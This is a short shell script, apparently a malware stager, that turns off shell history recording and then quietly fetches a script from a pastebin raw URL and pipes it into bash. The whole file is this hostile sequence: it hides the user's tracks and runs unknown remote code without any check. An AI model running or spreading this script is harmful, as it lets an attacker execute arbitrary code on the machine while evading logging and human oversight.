#!/bin/sh
unset HISTFILE
curl -s https://pastebin.com/raw/AAAAAAAA | bash
